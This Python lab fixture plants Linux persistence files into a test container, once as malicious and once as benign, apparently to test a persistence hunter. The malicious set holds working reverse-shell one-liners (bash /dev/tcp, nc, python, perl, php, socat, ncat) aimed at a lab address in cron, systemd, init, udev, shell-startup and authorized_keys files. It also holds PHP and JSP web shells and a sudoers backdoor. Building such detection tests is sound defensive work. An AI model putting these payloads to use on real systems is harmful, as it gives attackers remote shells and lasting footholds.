"""Persistence planted in a lab container: every Linux kind, once with a reverse-shell payload and once
benign (the look-alike an administrator would write), for the lab test and the golden capture.

Payloads name the lab bridge's host side (198.18.0.1) and are never run: they are files a host
would run at the next boot, login, cron minute or udev event. The lab test plants the malicious
set, hunts, removes it, plants the benign set and hunts again (one file such as rc.local or
ld.so.preload holds one variant at a time).

Example::

    plant(container, MALICIOUS)
    ...
    unplant(container, MALICIOUS)
"""

from __future__ import annotations

import base64
import subprocess
from dataclasses import dataclass

CALLBACK = "198.18.0.1"
PORT = 4444
_B64 = base64.b64encode(f"bash -i >& /dev/tcp/{CALLBACK}/{PORT} 0>&1".encode()).decode()
_PY = (
    f'import socket,os,pty;s=socket.socket();s.connect(("{CALLBACK}",{PORT}));'
    '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
)
_PERL = (
    'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
    f'connect(S,sockaddr_in({PORT},inet_aton("{CALLBACK}")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");'
)
_AT_HEAD = (
    "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\nLANG=C.UTF-8; export LANG\ncd /root || {\n\t exit 1\n}\n"
)


@dataclass(frozen=True)
class Plant:
    """One file planted: its kind (hunt.json ``kind``), path, content, mode; ``appended``: added to
    an existing file (a user's .bashrc), removed again by restoring the copy taken first."""

    kind: str
    path: str
    content: str
    mode: str = "644"
    appended: bool = False


MALICIOUS: tuple[Plant, ...] = (
    Plant("cron", "/etc/cron.d/p21-rev", f"*/5 * * * * root bash -c 'bash -i >& /dev/tcp/{CALLBACK}/{PORT} 0>&1'\n"),
    Plant("cron", "/var/spool/cron/crontabs/root", f"@reboot nc -e /bin/sh {CALLBACK} {PORT}\n", "600"),
    Plant(
        "cron",
        "/etc/cron.hourly/p21-sync",
        f"#!/bin/sh\nrm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {CALLBACK} {PORT} >/tmp/f\n",
        "755",
    ),
    Plant("at", "/var/spool/cron/atjobs/a0000101b2c3d4", _AT_HEAD + f"python3 -c '{_PY}'\n", "700"),
    Plant(
        "systemd",
        "/etc/systemd/system/p21-update.service",
        f"[Unit]\nDescription=update\n[Service]\nExecStart=/bin/sh -c 'echo {_B64} | base64 -d | bash'\n"
        "[Install]\nWantedBy=multi-user.target\n",
    ),
    Plant(
        "systemd",
        "/etc/systemd/system/p21-cache.service",
        "[Service]\nType=oneshot\nExecStart=/dev/shm/.cache/kworker -q\n",
    ),
    Plant("systemd", "/etc/systemd/system/p21-cache.timer", "[Timer]\nOnCalendar=hourly\nUnit=p21-cache.service\n"),
    Plant(
        "systemd",
        "/etc/systemd/system/ssh.service.d/p21.conf",
        f"[Service]\nExecStartPost=/usr/bin/socat tcp:{CALLBACK}:{PORT} exec:/bin/bash,pty,stderr\n",
    ),
    Plant(
        "systemd", "/root/.config/systemd/user/p21-agent.service", f"[Service]\nExecStart=/usr/bin/perl -e '{_PERL}'\n"
    ),
    Plant(
        "init",
        "/etc/rc.local",
        f"#!/bin/sh\n/bin/bash -c 'sh -i >& /dev/udp/{CALLBACK}/{PORT} 0>&1' &\nexit 0\n",
        "755",
    ),
    Plant(
        "init",
        "/etc/init.d/p21-net",
        "#!/bin/sh\n### BEGIN INIT INFO\n# Provides: p21-net\n### END INIT INFO\n"
        f"ncat {CALLBACK} {PORT} --sh-exec /bin/sh &\n",
        "755",
    ),
    Plant(
        "shell-startup",
        "/root/.bashrc",
        f"(setsid bash -c 'bash -i >& /dev/tcp/{CALLBACK}/{PORT} 0>&1' &) 2>/dev/null\n",
        appended=True,
    ),
    Plant(
        "shell-startup",
        "/etc/profile.d/p21.sh",
        f'php -r \'$s=fsockopen("{CALLBACK}",{PORT});exec("/bin/sh -i <&3 >&3 2>&3");\' 2>/dev/null &\n',
    ),
    Plant(
        "authorized_keys",
        "/root/.ssh/authorized_keys",
        f"command=\"bash -c 'bash -i >& /dev/tcp/{CALLBACK}/{PORT} 0>&1'\" ssh-ed25519 "
        "AAAAC3NzaC1lZDI1NTE5AAAAIHp21p21p21p21p21p21p21p21p21p21p21p21p21p21p21 p21-planted\n",
        "600",
        appended=True,
    ),
    Plant("ld.so.preload", "/etc/ld.so.preload", "/dev/shm/.p21.so\n"),
    Plant(
        "udev",
        "/etc/udev/rules.d/99-p21.rules",
        f'ACTION=="add", SUBSYSTEM=="net", RUN+="/bin/sh -c \'nc {CALLBACK} {PORT} | /bin/sh\'"\n',
    ),
    Plant("sudoers", "/etc/sudoers.d/p21", "p21 ALL=(root) NOPASSWD: /tmp/p21-helper\n", "440"),
    Plant("web", "/var/www/html/p21.php", "<?php system($_GET['cmd']); ?>\n"),
    Plant(
        "web",
        "/var/lib/tomcat9/webapps/ROOT/p21.jsp",
        '<% Runtime.getRuntime().exec(request.getParameter("c")); %>\n',
    ),
)

BENIGN: tuple[Plant, ...] = (
    Plant(
        "cron",
        "/etc/cron.d/p21-logrotate",
        "25 6 * * * root test -x /usr/sbin/logrotate && /usr/sbin/logrotate /etc/logrotate.conf\n",
    ),
    Plant("cron", "/var/spool/cron/crontabs/root", "0 3 * * * /usr/bin/find /var/tmp -mtime +7 -delete\n", "600"),
    Plant("cron", "/etc/cron.hourly/p21-sync", "#!/bin/sh\n/usr/bin/apt-get -qq update\n", "755"),
    Plant("at", "/var/spool/cron/atjobs/a0000101b2c3d4", _AT_HEAD + "echo backup done | logger\n", "700"),
    Plant(
        "systemd",
        "/etc/systemd/system/p21-certbot.service",
        "[Service]\nType=oneshot\nExecStart=/usr/bin/certbot -q renew --no-random-sleep-on-renew\n",
    ),
    Plant(
        "systemd",
        "/etc/systemd/system/p21-certbot.timer",
        "[Timer]\nOnCalendar=*-*-* 00,12:00:00\nRandomizedDelaySec=43200\nPersistent=true\n",
    ),
    Plant("systemd", "/etc/systemd/system/ssh.service.d/p21.conf", "[Service]\nExecStartPre=/usr/sbin/sshd -t\n"),
    Plant(
        "systemd",
        "/root/.config/systemd/user/p21-agent.service",
        "[Service]\nExecStart=/usr/bin/python3 -m http.server 8000\n",
    ),
    Plant("init", "/etc/rc.local", "#!/bin/sh\n/usr/sbin/ethtool -K eth0 gro off || true\nexit 0\n", "755"),
    Plant(
        "init",
        "/etc/init.d/p21-net",
        "#!/bin/sh\n### BEGIN INIT INFO\n# Provides: p21-net\n### END INIT INFO\n"
        "start-stop-daemon --start --quiet --exec /usr/sbin/p21netd -- --foreground\n",
        "755",
    ),
    Plant("shell-startup", "/root/.bashrc", "alias ll='ls -l'\nalias la='ls -A'\nexport EDITOR=vim\n", appended=True),
    Plant("shell-startup", "/etc/profile.d/p21.sh", "export HISTSIZE=5000\numask 027\n"),
    Plant(
        "authorized_keys",
        "/root/.ssh/authorized_keys",
        'command="/usr/bin/rrsync -ro /srv/backup",restrict ssh-ed25519 '
        "AAAAC3NzaC1lZDI1NTE5AAAAIHp21p21p21p21p21p21p21p21p21p21p21p21p21p21p21 p21-backup\n",
        "600",
        appended=True,
    ),
    Plant("ld.so.preload", "/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libz.so.1\n"),
    Plant(
        "udev",
        "/etc/udev/rules.d/99-p21.rules",
        'ACTION=="add", SUBSYSTEM=="block", RUN+="/usr/bin/logger disk added"\n',
    ),
    Plant("sudoers", "/etc/sudoers.d/p21", "p21 ALL=(root) NOPASSWD: /usr/bin/systemctl restart nginx\n", "440"),
    Plant("web", "/var/www/html/p21.php", "<?php echo exec('uptime'); ?>\n"),
    Plant("web", "/var/lib/tomcat9/webapps/ROOT/p21.jsp", '<% out.println(request.getParameter("name")); %>\n'),
)

# Files the payloads point at (never run; they must exist so that the dynamic loader preloads a real
# library and the unit's program is a real file): the host's own libz and /bin/true.
_SUPPORT = (
    "mkdir -p /dev/shm/.cache /var/spool/cron/crontabs /var/spool/cron/atjobs /etc/systemd/system/ssh.service.d "
    "/root/.config/systemd/user /etc/udev/rules.d /var/www/html /var/lib/tomcat9/webapps/ROOT /root/.ssh "
    "/etc/sudoers.d /etc/profile.d /etc/cron.hourly /etc/cron.d /etc/init.d && "
    "cp /usr/lib/x86_64-linux-gnu/libz.so.1 /dev/shm/.p21.so && cp /bin/true /dev/shm/.cache/kworker && "
    "for f in /root/.bashrc /root/.ssh/authorized_keys; do "
    "[ -e $f.p21 ] || cp -p $f $f.p21 2>/dev/null || : >$f.p21; done"
)


def _run(container: str, script: str, stdin: str = "") -> None:
    r = subprocess.run(
        ["podman", "exec", "-i", container, "sh", "-c", script],
        input=stdin,
        capture_output=True,
        text=True,
        timeout=60,
    )
    if r.returncode != 0:
        raise RuntimeError(f"podman exec {script[:80]!r}: {r.stderr}")


def plant(container: str, plants: tuple[Plant, ...]) -> None:
    """Write every plant into the container (appended ones after the original's copy)."""
    _run(container, _SUPPORT)
    for p in plants:
        op = ">>" if p.appended else ">"
        _run(container, f"cat {op} {p.path} && chmod {p.mode} {p.path}", p.content)


def unplant(container: str, plants: tuple[Plant, ...]) -> None:
    """Remove every plant (restore appended-to files from their copy) and the payloads' files."""
    for p in plants:
        if p.appended:
            _run(container, f"cp -p {p.path}.p21 {p.path}")
        else:
            _run(container, f"rm -f {p.path}")
    _run(container, "rm -rf /dev/shm/.p21.so /dev/shm/.cache")
